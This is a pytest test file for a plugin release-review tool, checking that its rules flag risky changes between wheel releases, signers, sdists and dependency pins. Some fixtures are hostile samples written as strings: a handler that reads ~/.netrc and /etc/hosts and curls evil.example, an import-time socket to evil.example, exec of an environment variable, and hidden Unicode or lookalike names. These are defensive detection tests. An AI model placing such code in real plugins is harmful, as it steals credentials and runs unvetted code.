"""Every rule fires on something that could be released, not only on facts of its own examples.

The stories, the projects with one mistake each, and the pairs of releases here, make each of them
fire together. A rule that none of them shows is one that nobody has seen at work.
"""

from __future__ import annotations

import io
import json
import re
import tomllib
import zipfile
from collections.abc import Callable, Iterable, Mapping
from datetime import date, timedelta
from functools import partial
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from stigmem_review import bump, check, review
from stigmem_review.approvals.record import APPROVALS_FILE
from stigmem_review.pipeline.node import Wanted, foresee_node
from stigmem_review.report import render
from stigmem_review.rulebook import Finding, shipped_rules
from stigmem_review.signing.taken import root_taken
from support import sigstore as mini
from support.approvals import APPROVED
from support.approved import signed_and_approved
from support.broken import BROKEN
from support.broken import STORIES as MISTAKES
from support.identities import Identity, person, username, workflow
from support.index_server import File, IndexServer
from support.plugins import HANDLERS, plugin, write_project, write_sdist, write_wheel
from support.repository import Deployment
from support.stories import CASES, STORIES

RULES = {each.rule.name for each in shipped_rules().rules}

Files = Mapping[str, str | bytes]


def found(findings: Iterable[Finding]) -> set[str]:
    return {each.name for each in findings}


def manifest(body: str, before: str = "") -> str:
    """Return a manifest module whose factory is ``body``, which ends in keywords of the call."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return f"import os\n\nfrom stigmem_node.plugins import PluginManifest\n{before}\n\n" + (
        f"def plugin_manifest():\n{lines}"
    )


class Pair(NamedTuple):
    """Two releases as wheels: the files of their packages, and what else ``write_wheel`` takes."""

    old: Files
    new: Files
    fires: set[str]
    old_more: Mapping[str, Any] = {}
    new_more: Mapping[str, Any] = {}


ROUTER = """\
from fastapi import APIRouter, Depends
from stigmem_node.auth import resolve_identity


def known():
    return "somebody"


router = APIRouter(prefix="/v1/demo")


@router.get("/facts", dependencies=[{guards}])
def facts():
    return []
"""
REFUSING = """\
from fastapi import APIRouter, HTTPException

router = APIRouter()


@router.get("/a")
def a(key: str = ""):
    if {test}:
        raise HTTPException(403)
    return 1
"""
MORE_ROUTES = '\n\n@router.get("/old")\ndef old():\n    return []\n'
AT_TIMES = """\
always = {always}
return PluginManifest(
    name="demo-plugin", version="1.0.0", requires_stigmem=">=0.9.0a10",
    capabilities=["facts.read", "recall.read"] if always else ["facts.read"],
    hooks={{"post_assert_audit": handlers.audit}} if always else {{}},
    routes=[router] if always else [],
    depends_on=["demo-base"] if always else [],
)
"""
PARTS = "from . import handlers\nfrom .routes import router\n"
ROUTES = ROUTER.format(guards="Depends(resolve_identity)")
ON = """\
on = {}
return PluginManifest(
    name="demo-plugin", version="1.0.0", requires_stigmem=">=0.9.0a10",
    capabilities=["facts.read", "recall.read"] if on else ["facts.read"],
)
"""
FIELDS = """\
return PluginManifest(
    name="demo-plugin", version="{version}", requires_stigmem="{requires}",
    capabilities=["facts.read"], {more}
)
"""
CONFIG = """\
from pydantic import BaseModel


class {name}(BaseModel):
    enabled: bool = False
    {field}
"""
MIGRATIONS = """\
from stigmem_node.plugins import Migration


def migrate(ctx, value, **_):
    return [*value, {}]


def gate(ctx, **_):
    return None
"""
VERDICTS = "import json\nfrom acme import judge\nfrom stigmem_node.plugins import Allow, Deny\n"
SENDS = """\
import httpx


def audit(ctx, **more):
    httpx.post("https://demo.example", json={})
"""
DECIDES = """\
BLOCKED = {'eve'}


def gate(ctx, entity=None, **_):
    return Deny('x') if entity in BLOCKED else Allow()
"""
GATES = {"pre_recall_authorize": "gate", "capability_check": "check"}
DOES = """\
import os
import subprocess
from pathlib import Path


def audit(ctx, **_):
    ctx.get_facts_writer()
    Path("/etc/hosts").read_text()
    Path("~/.netrc").expanduser().read_text()
    subprocess.run(["curl", "https://evil.example"])
    return None
"""
EARLY = 'import socket\n\nsocket.create_connection(("evil.example", 443))\n'
RAISES = """\
if os.environ.get("DEMO_KEY"):
    raise ValueError("no key is taken")
return PluginManifest(
    name="demo-plugin", version="1.0.0", requires_stigmem=">=0.9.0a10",
    capabilities=["facts.read"], hooks={"post_assert_audit": handlers.audit},
)
"""


def migrating(*given: str, version: str = "1.0.0", **more: Any) -> dict[str, str]:
    code = MIGRATIONS.format(", ".join(f"Migration({each})" for each in given))
    hooks = {"migration_register": "migrate"}
    return plugin(version=version, hooks=hooks, handlers=code, **more)


def fields(
    more: str,
    version: str = "1.0.0",
    requires: str = ">=0.9.0a10",
    before: str = PARTS,
    routes: str = ROUTES,
    **files: Any,
) -> Files:
    body = FIELDS.format(version=version, requires=requires, more=more)
    return plugin(manifest=manifest(body, before), routes=routes, **files)


PAIRS: dict[str, Pair] = {
    "what was always so depends on a setting": Pair(
        plugin(manifest=manifest(AT_TIMES.format(always="True"), PARTS), routes=ROUTES),
        plugin(
            manifest=manifest(AT_TIMES.format(always='os.environ.get("DEMO_ALL")'), PARTS),
            routes=ROUTES,
        ),
        {
            "capability-reconditioned",
            "depends-on-reconditioned",
            "hook-reconditioned",
            "route-reconditioned",
        },
    ),
    "a condition that is not told any more": Pair(
        plugin(manifest=manifest(ON.format('os.environ.get("DEMO")'))),
        plugin(
            manifest=manifest(
                ON.format('os.environ.get("DEMO") and time.time() > 5'), "import time\n"
            )
        ),
        {"condition-unclear"},
    ),
    "a manifest that only running it tells": Pair(
        plugin(),
        plugin(manifest="import os\n\nexec(os.environ['DEMO_PLUGIN'])\n"),
        {"manifest-unread"},
    ),
    "what is part of the node by now": Pair(
        plugin(),
        plugin(name="stigmem-plugin-memory-garden-acl"),
        {"name-changed", "plugin-graduated"},
    ),
    "a dependency that is part of the node by now": Pair(
        plugin(),
        fields(
            'hooks={"post_assert_audit": handlers.audit},'
            ' depends_on=["stigmem-plugin-memory-garden-acl"],'
        ),
        {"depends-on-added", "dependency-graduated"},
    ),
    "other fields": Pair(
        fields(
            'hooks={"post_assert_audit": handlers.audit}, depends_on=["demo-base"],'
            " config_schema=Before, routes=[router],",
            before=PARTS + "from .config import Before\n",
            config=CONFIG.format(name="Before", field="days: int = 1"),
        ),
        fields(
            'depends_on=["demo-other"], async_safe=False, config_schema=After, routes=[],',
            "1.1.0",
            ">=0.9.0a11",
            PARTS + "from .config import After\n",
            config=CONFIG.format(name="After", field="weeks: int = 1"),
        ),
        {
            "async-safe-changed",
            "config-field-added",
            "config-field-removed",
            "config-schema-changed",
            "depends-on-added",
            "depends-on-removed",
            "hook-removed",
            "requires-stigmem-changed",
            "route-removed",
        },
        new_more={"version": "1.1.0"},
    ),
    "other guards and paths": Pair(
        fields("routes=[router],", routes=ROUTES + MORE_ROUTES),
        fields(
            "routes=[router],",
            routes=ROUTER.format(guards="Depends(resolve_identity), Depends(known)"),
        ),
        {"endpoint-guarded", "endpoint-removed"},
    ),
    "what a path refuses": Pair(
        fields("routes=[router],", routes=REFUSING.format(test="not key")),
        fields("routes=[router],", routes=REFUSING.format(test="not key and False")),
        {"refusal-lost"},
    ),
    "a router": Pair(fields(""), fields("routes=[router],"), {"route-added"}),
    "the metadata of the distribution": Pair(
        plugin(),
        plugin(),
        {
            "entry-point-changed",
            "requirement-added",
            "requirement-changed",
            "requirement-removed",
            "requires-python-changed",
            "unclassified-change",
        },
        {"headers": "Requires-Python: >=3.11\nRequires-Dist: one\nRequires-Dist: two>=1\n"},
        {
            "headers": "Requires-Python: >=3.12\nRequires-Dist: two>=2\nRequires-Dist: three\n"
            "Platform: linux\n",
            "entry_points": "[stigmem.plugins]\ndemo = demo_plugin.manifest:plugin_manifest\n",
        },
    ),
    "a manifest that goes back, for a node to come": Pair(
        fields("", version="1.2.0"),
        fields("", version="1.1.0", requires=">=1.0"),
        {"manifest-version-downgraded", "requires-stigmem-unmet"},
        new_more={"version": "1.1.0"},
    ),
    "fields that code of others gives": Pair(
        fields("health_check=acme.health(), depends_on=acme.plugins(),", before="import acme\n"),
        fields("health_check=acme.health(), depends_on=['demo-base'],", before="import acme\n"),
        {"field-first-read", "field-unread"},
    ),
    "a manifest that can be read again": Pair(
        plugin(manifest="from acme import plugin_manifest\n"),
        plugin(),
        {"manifest-first-read"},
    ),
    "a handler that code of others gives": Pair(
        plugin(), plugin(handlers="import acme\n\naudit = acme.wrapped()\n"), {"handler-unread"}
    ),
    "an installer that would take another node": Pair(
        plugin(),
        plugin(),
        {"node-requirement-unmet", "requirement-added"},
        new_more={"headers": "Requires-Dist: stigmem-node<0.9.0a10\n"},
    ),
    "what keeps a node from starting": Pair(
        plugin(),
        plugin(handlers=HANDLERS + "\n\naudit.__plugin_timeout__ = 60\n"),
        {"start-refused"},
    ),
    "what keeps a node from starting where nothing is set": Pair(
        plugin(),
        plugin(
            manifest=manifest(
                "int(os.environ['DEMO'])\n"
                + FIELDS.format(version="1.0.0", requires=">=0.9.0a10", more="")
            )
        ),
        {"start-at-risk"},
    ),
    "a range of nodes that is too wide": Pair(
        fields("", requires=">=0.9.0a3"),
        fields("", requires=">=0.9.0a3", before="import stigmem_node.tenant\n"),
        {"start-range"},
    ),
    "what handlers decide": Pair(
        plugin(
            hooks=GATES,
            handlers=VERDICTS
            + "def gate(ctx, **more):\n    return Deny('x') if more['p'] else Allow()\n"
            "def check(ctx, **more):\n    return Allow()\n",
        ),
        plugin(
            hooks=GATES,
            handlers=VERDICTS + "def gate(ctx, **more):\n    return judge(more)\n"
            "def check(ctx, **more):\n    return 'no'\n",
        ),
        {"deny-unclear", "handler-result"},
    ),
    "what the context does not have": Pair(
        plugin(),
        plugin(handlers="def audit(ctx, **_):\n    ctx.facts.write(ctx.plugin_name)\n"),
        {"context-lacks"},
    ),
    "more of what a handler is given": Pair(
        plugin(handlers=SENDS.format("len(more)")),
        plugin(handlers=SENDS.format("more")),
        {"data-sent"},
    ),
    "what handlers decide by": Pair(
        plugin(hooks={"pre_recall_authorize": "gate"}, handlers=VERDICTS + DECIDES),
        plugin(
            hooks={"pre_recall_authorize": "gate"},
            handlers=VERDICTS
            + DECIDES.replace("{'eve'}", "{'ada'}").replace(
                "entity in BLOCKED", "entity in BLOCKED and ctx"
            ),
        ),
        {"decides-otherwise", "deciding-constant-changed"},
    ),
    "what code does": Pair(
        plugin(),
        plugin(
            version="1.0.0",
            handlers=DOES + "\nname = 'a\u202eb'\n",
            manifest=manifest(RAISES, "from . import early, handlers\n"),
            early=EARLY,
        ),
        {
            "accessor-undeclared",
            "authority-used",
            "code-run",
            "credentials-read",
            "import-time-effect",
            "factory-raises",
            "source-deceptive",
        },
    ),
    "code under the same version": Pair(
        plugin(), plugin(handlers=HANDLERS + "\nMORE = 1\n"), {"code-changed-under-version"}
    ),
    "rights that had no use": Pair(
        plugin(capabilities=("facts.write",)),
        plugin(
            capabilities=("facts.write",),
            hooks={"recall_filter": "drop"},
            handlers="def drop(ctx, value, **_):\n"
            "    ctx.get_facts_writer().write(value)\n    return value\n",
        ),
        {"capability-used"},
    ),
    "rights for nothing": Pair(
        plugin(), plugin(capabilities=("facts.read", "recall.read")), {"capability-unused"}
    ),
    "files beside the package": Pair(
        plugin(),
        plugin(),
        {
            "artifact-rebuilt",
            "unexpected-file",
            "hidden-distribution",
            "outside-file-added",
            "outside-file-changed",
            "outside-file-removed",
        },
        {"extra": {"one.pth": "one\n", "demo_plugin-1.0.0.data/data/share/two.txt": "two\n"}},
        {
            "extra": {
                "one.pth": "other\n",
                "three/__init__.py": "",
                "four-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: four\nVersion: 1.0\n",
                "demo_plugin/data.bin": b"\x7fELF\2\1\1" + bytes(64),
            }
        },
    ),
    "migrations": Pair(
        migrating(
            '"demo-plugin", 1, "CREATE TABLE A (id);", "one"',
            '"demo-plugin", 2, "CREATE TABLE B (id);", "two"',
        ),
        migrating(
            '"demo-plugin", 1, "CREATE TABLE A (id);", "one"',
            '"other", 1, "CREATE TABLE C (id);", "three"',
            '"demo-plugin", 1, "D", "five", backend="postgres", plugin_version="1.0.0-foo"',
            '"demo-plugin", 0, __name__.sql(), "four"',
        ),
        {
            "migration-foreign",
            "migration-removed",
            "migration-unread",
            "migration-version-invalid",
            "migrations-refused",
        },
    ),
}


@pytest.mark.parametrize("case", PAIRS)
def test_what_fires_on_two_wheels(case: str, tmp_path: Path) -> None:
    pair = PAIRS[case]
    old = write_wheel(tmp_path / "old", pair.old, **pair.old_more)
    new = write_wheel(tmp_path / "new", pair.new, **pair.new_more)
    assert pair.fires - found(review(str(old), str(new)).findings) == set()


# Who signed

Signs = Callable[[bytes], bytes]
ADA = person("ada@acme.example")
SHARED = workflow(builder="builds/all/.github/workflows/build.yml@refs/tags/v1")


def by(*signers: Identity, of: str = "mini", **how: Any) -> dict[str, Signs]:
    """Return what signs a wheel: the suffix of each file, and how it is made."""
    suffixes = (".sigstore.json", ".sigstore")
    sign = mini.instance(of).sign
    return {
        suffix: partial(sign, who=who, **how)
        for suffix, who in zip(suffixes, signers, strict=False)
    }


def stating(*said: tuple[str, Identity]) -> dict[str, Signs]:
    """Return statements about a wheel, each of a type and by somebody."""
    suffixes = (".sigstore.json", ".sigstore")
    sign = mini.instance().sign_statement
    return {
        suffix: partial(sign, "wheel", who=who, predicate_type=kind)
        for suffix, (kind, who) in zip(suffixes, said, strict=False)
    }


SLSA = "https://slsa.dev/provenance/v1"


class Signed(NamedTuple):
    """Two releases that are signed, what the operator says of signing, and what fires."""

    old: dict[str, Signs]
    new: dict[str, Signs]
    fires: set[str]
    settings: str = ""


SIGNED: dict[str, Signed] = {
    "another file": Signed(
        by(ADA),
        {".sigstore.json": lambda data: mini.instance().sign(data + b"more", ADA)},
        {"signature-invalid"},
    ),
    "another root": Signed(by(ADA), by(ADA, of="other"), {"signature-unverifiable"}),
    "another root before": Signed(by(ADA, of="other"), by(ADA), {"old-signature-unproven"}),
    "signed from now on": Signed({}, by(ADA), {"signature-gained"}),
    "a branch": Signed(by(workflow()), by(workflow(ref="refs/heads/main")), {"signer-ref-changed"}),
    "a version at the tag of another one": Signed(
        by(workflow()), by(workflow()), {"signer-tag-mismatch"}
    ),
    "another workflow": Signed(
        by(workflow()),
        by(workflow(path=".github/workflows/nightly.yml")),
        {"signer-workflow-changed"},
    ),
    "another repository": Signed(
        by(workflow()),
        by(workflow("eve/ledger", repository_id="2002")),
        {"signer-repository-changed"},
    ),
    "a name that looks like the old one": Signed(
        by(ADA), by(person("Ada@acme.example")), {"signer-lookalike"}
    ),
    "a name of other letters": Signed(
        by(username("ada")), by(username("ad\u0430")), {"signer-odd"}
    ),
    "other capitals": Signed(by(person("ada@Acme.example")), by(ADA), {"signer-case-changed"}),
    "beside it something of another root": Signed(
        by(ADA),
        {**by(ADA), ".sigstore": partial(mini.instance("other").sign, who=ADA)},
        {"signature-extra"},
    ),
    "another kind of attestation": Signed(
        stating((mini.PUBLISH, ADA)),
        stating((SLSA, ADA)),
        {"attestation-dropped"},
    ),
    "one kind of attestation more": Signed(
        stating((mini.PUBLISH, ADA)),
        stating((mini.PUBLISH, ADA), (SLSA, ADA)),
        {"attestation-gained"},
    ),
    "two signers who changed places": Signed(
        stating((mini.PUBLISH, ADA), (SLSA, person("bob@acme.example"))),
        stating((SLSA, ADA), (mini.PUBLISH, person("bob@acme.example"))),
        {"attestation-signer"},
    ),
    "somebody beside the author": Signed(
        by(ADA), by(ADA, person("eve@acme.example")), {"signer-joined"}
    ),
    "one of two, whom the operator trusts": Signed(
        by(ADA, person("eve@acme.example")),
        by(ADA),
        {"signer-left"},
        "STIGMEM_PLUGIN_TRUSTED_PUBLISHERS=ada@acme.example\n",
    ),
    "a workflow that signs for everybody": Signed(
        by(SHARED),
        by(SHARED),
        {"signer-shared"},
        "STIGMEM_PLUGIN_TRUSTED_PUBLISHERS=https://github.com/builds/all/.github/workflows/"
        "build.yml@refs/tags/v1\n",
    ),
    "a list that names the tag before": Signed(
        by(workflow()),
        by(workflow(ref="refs/tags/v1.0.1")),
        {"signer-not-listed"},
        "STIGMEM_PLUGIN_TRUSTED_PUBLISHERS=https://github.com/acme/ledger/.github/workflows/"
        "release.yml@refs/tags/v1.0.0\n",
    ),
    "unsigned, and nobody said so": Signed(
        {}, {}, {"unsigned-unacknowledged"}, "STIGMEM_PLUGIN_SIGNING_REQUIRED=false\n"
    ),
}


@pytest.mark.parametrize("case", SIGNED)
def test_what_fires_on_who_signed(case: str, tmp_path: Path) -> None:
    signed = SIGNED[case]
    wheels = []
    for side, version, signatures in (("old", "1.0.0", signed.old), ("new", "1.0.1", signed.new)):
        wheel = write_wheel(tmp_path / side, plugin(version=version), version=version)
        for suffix, sign in signatures.items():
            wheel.with_name(wheel.name + suffix).write_bytes(sign(wheel.read_bytes()))
        wheels.append(str(wheel))
    (tmp_path / "root.json").write_bytes(mini.instance().root())
    (tmp_path / "node.env").write_text(signed.settings, "utf-8")
    report = review(
        *wheels, trust_root=str(tmp_path / "root.json"), env_file=str(tmp_path / "node.env")
    )
    assert signed.fires - found(report.findings) == set()


# What it takes more than two wheels to show

OTHERWISE = {
    "a capture that names another signer": {"signer-claimed"},
    "a wheel that is not what its list of files says": {"record-mismatch"},
    "a wheel that is not what its name says": {"wheel-tags-differ"},
    "an sdist with another build": {"build-step-changed", "build-step-removed"},
    "a wheel of another project": {"wheel-differs-from-source"},
    "a release of several files": {
        "files-unreviewed",
        "signature-partial",
        "wheel-differs-from-sdist",
    },
    "an index that says nothing of signatures": {"signature-not-carried"},
    "an sdist that somebody else signed": {"signer-split"},
    "what a policy wants of signatures": {"signer-absent", "trust-root-old"},
    "a first signature from elsewhere": {"signer-elsewhere"},
    "what a policy forbids": {"forbidden", "forbidden-unread"},
    "a node that verifies nothing": {"signatures-unsupported"},
    "what signed the release that was approved is gone": {"signer-unlike-approved"},
    "a node with plugins": {"node-stops", "node-untold", "plugin-ignored"},
    "pins of releases of an index": {"extras-changed", "hash-unknown", "release-yanked"},
    "changed pins": {
        "check-loosened",
        "index-option-changed",
        "pin-loosened",
        "pin-mismatch",
        "pin-unhashed",
        "conflicting-pins",
        "policy-broken",
        "policy-changed",
        "requirement-unpinned",
        "signing-loosened",
    },
}


CHECKED = """\
on: pull_request
jobs:
  review:
    steps:
    - uses: stigmem/stigmem-review@v1
"""


def missing(case: str, findings: Iterable[Finding]) -> set[str]:
    return OTHERWISE[case] - found(findings)


def test_a_capture_that_names_another_signer(tmp_path: Path) -> None:
    capture = {
        "name": "demo-plugin",
        "version": "1.0.0",
        "capabilities": ["facts.read"],
        "hooks": ["post_assert_audit"],
        "hook_count": 1,
        "depends_on": [],
        "discovery_source": None,
        "signed_by": "ada@acme.example",
    }
    old = tmp_path / "old.json"
    old.write_text(json.dumps(capture), "utf-8")
    new = write_wheel(tmp_path, plugin(version="1.0.1"), version="1.0.1")
    report = review(str(old), str(new))
    assert missing("a capture that names another signer", report.findings) == set()


def test_wheels_that_contradict_themselves(tmp_path: Path) -> None:
    old = write_wheel(tmp_path / "old", plugin())
    wheel = write_wheel(tmp_path / "new", plugin())
    renamed = wheel.rename(wheel.with_name(wheel.name.replace("py3-none", "py2.py3-none")))
    report = review(str(old), str(renamed))
    assert missing("a wheel that is not what its name says", report.findings) == set()
    data = renamed.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {each: archive.read(each) for each in archive.namelist()}
    members["demo_plugin/handlers.py"] += b"\nMORE = 1\n"
    with zipfile.ZipFile(renamed, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    report = review(str(old), str(renamed))
    case = "a wheel that is not what its list of files says"
    assert missing(case, report.findings) == set()


def test_an_sdist_with_another_build(tmp_path: Path) -> None:
    build = '[build-system]\nrequires = ["{}"]\nbuild-backend = "hatchling.build"\n'
    old, new = (
        write_sdist(tmp_path / version, plugin(), version=version, build=build.format(needs))
        for version, needs in (("1.0.0", 'hatchling", "wheel'), ("1.0.1", "hatchling>=1.27"))
    )
    report = review(str(old), str(new))
    assert missing("an sdist with another build", report.findings) == set()


def test_a_wheel_of_another_project(tmp_path: Path) -> None:
    project = write_project(tmp_path / "project", plugin())
    wheel = write_wheel(tmp_path, plugin(), version="0.9.0")
    of_wheel, _ = check(str(wheel), str(project)).checked
    assert missing("a wheel of another project", of_wheel.mistakes) == set()


def test_a_release_of_several_files(tmp_path: Path, index: IndexServer) -> None:
    offered = []
    for version, more in (("1.0.0", {}), ("1.0.1", {"demo_plugin/more.py": "MORE = print\n"})):
        files = plugin(version=version)
        wheel = write_wheel(tmp_path, {**files, **more}, version=version)
        other = wheel.with_name(wheel.name.replace("py3-none-any", "cp39-cp39-win_arm64"))
        other.write_bytes(wheel.read_bytes())
        for path in (wheel, other, write_sdist(tmp_path, files, version=version)):
            data = path.read_bytes()
            is_signed = path == wheel or version == "1.0.0"
            signed = mini.instance().provenance(path.name, data, workflow()) if is_signed else None
            offered.append(File(path.name, data, provenance=signed))
    index.offer("demo-plugin", *offered)
    (tmp_path / "root.json").write_bytes(mini.instance().root())
    report = review(
        "demo-plugin==1.0.0", "demo-plugin==1.0.1", trust_root=str(tmp_path / "root.json")
    )
    assert missing("a release of several files", report.findings) == set()


def test_an_index_that_says_nothing_of_signatures(tmp_path: Path, index: IndexServer) -> None:
    old = write_wheel(tmp_path / "old", plugin())
    new = write_wheel(tmp_path / "new", plugin(version="1.0.1"), version="1.0.1")
    old.with_name(f"{old.name}.sigstore").write_bytes(mini.instance().sign(old.read_bytes(), ADA))
    index.offer("demo-plugin", File(new.name, new.read_bytes()))
    root = tmp_path / "root.json"
    root.write_bytes(mini.instance().root())
    report = review(str(old), "demo-plugin==1.0.1", trust_root=str(root))
    assert missing("an index that says nothing of signatures", report.findings) == set()
    assert "signature-dropped" not in found(report.findings)
    said = render(report, "text")
    assert "Signer not known: this index carries no attestations (before: ada@acme.example)" in (
        " ".join(said.split())
    )
    # From an index that says of each file what signs it, it would not be signed.
    index.offer("demo-plugin", File(new.name, new.read_bytes()), as_json=True)
    report = review(str(old), "demo-plugin==1.0.1", trust_root=str(root))
    assert "signature-dropped" in found(report.findings)


def test_an_sdist_that_somebody_else_signed(tmp_path: Path) -> None:
    sign = mini.instance().sign
    wheels = []
    for version, who in (("1.0.0", ADA), ("1.0.1", person("eve@acme.example"))):
        folder, files = tmp_path / version, plugin(version=version)
        wheel = write_wheel(folder, files, version=version)
        for path, signer in ((wheel, ADA), (write_sdist(folder, files, version=version), who)):
            path.with_name(f"{path.name}.sigstore").write_bytes(sign(path.read_bytes(), signer))
        wheels.append(str(wheel))
    root = tmp_path / "root.json"
    root.write_bytes(mini.instance().root())
    report = review(*wheels, trust_root=str(root))
    assert missing("an sdist that somebody else signed", report.findings) == set()
    assert "verified: demo_plugin-1.0.1.tar.gz, by eve@acme.example" in render(
        report, "text", detail="all"
    )


def test_what_a_policy_wants_of_signatures(tmp_path: Path) -> None:
    policy, root = tmp_path / "stigmem-review.toml", tmp_path / "root.json"
    root.write_bytes(mini.instance().root())
    policy.write_text(
        '[signing]\ntrust-root = ["public-good", "root.json"]\nroot-max-age = 90\n'
        '[[signing.trusted]]\nidentity = "ada@acme.example"\nissuer = "https://accounts.example.com"\n'
        '[[signing.trusted]]\nidentity = "bob@acme.example"\nissuer = "https://accounts.example.com"\n'
        "required = true\n"
    )
    wheel = write_wheel(tmp_path, plugin())
    wheel.with_name(f"{wheel.name}.sigstore").write_bytes(
        mini.instance().sign(wheel.read_bytes(), ADA)
    )
    late = date(2099, 1, 1)
    report = review("none", str(wheel), policy=str(policy), today=late)
    # Another root is what its signature rests on, however old our copy is.
    assert "trust-root-old" not in found(report.findings)
    policy.write_text(policy.read_text().replace(', "root.json"', ""))
    on_ours = review("none", str(wheel), policy=str(policy), today=late)
    both = (*report.findings, *on_ours.findings)
    assert missing("what a policy wants of signatures", both) == set()
    taken = date.fromisoformat(root_taken())
    report = review("none", str(wheel), policy=str(policy), today=taken + timedelta(days=90))
    assert "trust-root-old" not in found(report.findings)


def test_a_first_signature_from_elsewhere(tmp_path: Path) -> None:
    headers = "Requires-Python: >=3.11\nProject-URL: Source, https://github.com/{}\n"
    root = tmp_path / "root.json"
    root.write_bytes(mini.instance().root())
    for named, fires in (("acme/other", True), ("Acme/ledger", False)):
        folder = tmp_path / named
        wheel = write_wheel(folder, plugin(), headers=headers.format(named))
        wheel.with_name(f"{wheel.name}.sigstore").write_bytes(
            mini.instance().sign(wheel.read_bytes(), workflow())
        )
        report = review("none", str(wheel), trust_root=str(root))
        said = render(report, "text")
        assert (missing("a first signature from elsewhere", report.findings) == set()) is fires
        assert ("the repository that its metadata names" in " ".join(said.split())) is not fires


def test_what_a_policy_forbids(tmp_path: Path) -> None:
    policy = tmp_path / "stigmem-review.toml"
    policy.write_text('[forbid]\ncapabilities = ["facts.read"]\nhooks = ["recall_filter"]\n')
    old = write_wheel(tmp_path / "old", plugin())
    new = write_wheel(
        tmp_path / "new",
        fields("hooks=acme.hooks(),", "1.0.1", before="import acme\n"),
        version="1.0.1",
    )
    report = review(str(old), str(new), policy=str(policy))
    assert missing("what a policy forbids", report.findings) == set()


def test_a_node_that_verifies_nothing(tmp_path: Path) -> None:
    (tmp_path / "node.env").write_text("STIGMEM_PLUGIN_SIGNING_REQUIRED=true\n", "utf-8")
    policy = tmp_path / "stigmem-review.toml"
    policy.write_text('[node]\nverifier = "stock"\nenv-file = "node.env"\n', "utf-8")
    wheel = write_wheel(tmp_path, plugin())
    report = review("none", str(wheel), policy=str(policy))
    assert missing("a node that verifies nothing", report.findings) == set()


def test_what_signed_the_release_that_was_approved_is_gone(tmp_path: Path) -> None:
    records = tmp_path / APPROVALS_FILE
    _, two, three = signed_and_approved(tmp_path, ADA, person("eve@acme.example"), records)
    two.with_name(f"{two.name}.sigstore.json").unlink()
    report = review(
        str(two),
        str(three),
        trust_root=str(tmp_path / "root.json"),
        approvals=str(records),
        today=APPROVED,
    )
    case = "what signed the release that was approved is gone"
    assert missing(case, report.findings) == set()


def test_changed_pins(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    for name in ("one", "two", "three"):
        for version in ("1.0", "1.1"):
            files = plugin(name=f"demo-{name}", version=f"{version}.0")
            write_wheel(wheels, files, name=f"demo-{name}", version=version)
    no = f"--hash=sha256:{'0' * 64}"
    deployment = Deployment(tmp_path / "deployment")
    base = deployment.commit(
        {
            "requirements.txt": "demo-one==1.0\ndemo-two==1.0\n",
            "stigmem-review.toml": 'fail-on = "warning"\n',
            ".github/workflows/plugins.yml": CHECKED,
            "node.env": "STIGMEM_PLUGIN_SIGNING_REQUIRED=true\n",
        }
    )
    head = deployment.commit(
        {
            "requirements.txt": "--extra-index-url https://other.example/simple\n"
            f"demo-one>=1.0\ndemo-two==1.1 {no}\ndemo-three==1.0\nnew>=1\n",
            "more/requirements.txt": "demo-three==1.1\n",
            "stigmem-review.toml": "fail-on = \n",
            ".github/workflows/plugins.yml": f"{CHECKED}    continue-on-error: true\n",
            "node.env": "STIGMEM_PLUGIN_SIGNING_REQUIRED=false\n",
        }
    )
    report = bump(base, head, repository=str(deployment.folder), artifacts=str(wheels))
    assert missing("changed pins", report.findings) == set()


def test_pins_of_releases_of_an_index(tmp_path: Path, index: IndexServer) -> None:
    wheel = write_wheel(tmp_path, plugin())
    file = File(wheel.name, wheel.read_bytes(), yanked="broken")
    index.offer("demo-plugin", file)
    hashes = f"--hash=sha256:{file.digest} --hash=sha256:{'0' * 64}"
    deployment = Deployment(tmp_path / "deployment")
    base = deployment.commit({"requirements.txt": "demo-plugin==0.9\n"})
    head = deployment.commit({"requirements.txt": f"demo-plugin[fast]==1.0.0 {hashes}\n"})
    report = bump(base, head, repository=str(deployment.folder))
    assert missing("pins of releases of an index", report.findings) == set()


def test_a_node_with_plugins(tmp_path: Path) -> None:
    graduated = "stigmem-plugin-memory-garden-acl"
    ignored = write_wheel(tmp_path, plugin(name=graduated), name=graduated)
    refused = write_wheel(tmp_path, {**plugin(), "demo_plugin/__init__.py": "import nothing\n"})
    table = '"demo-plugin", 1, "UPDATE facts SET value = 1;", "one"'
    untold = write_wheel(tmp_path / "untold", migrating(table))
    reports = [
        foresee_node(Wanted(tuple(map(str, each)))) for each in ([ignored, refused], [untold])
    ]
    every = [finding for report in reports for finding in report.findings]
    assert missing("a node with plugins", every) == set()


def test_every_rule_fires_somewhere() -> None:
    """What is written down of stories and projects is what they give: other tests hold it."""
    written = [(CASES / story / "review.md").read_text("utf-8") for story in STORIES]
    heading = r"<summary>.*(?:</b> · |<b>\d+\. )([a-z-]+)(?:</b>| \(\d+ times\)</b>)? · SPR"
    shown = {name for text in written for name in re.findall(heading, text)}
    for story in MISTAKES:
        expected = tomllib.loads((BROKEN / story / "expected.toml").read_text("utf-8"))
        shown.add(expected["finding"].split()[1])
    shown.update(*(pair.fires for pair in PAIRS.values()))
    shown.update(*(signed.fires for signed in SIGNED.values()), *OTHERWISE.values())
    assert shown == RULES
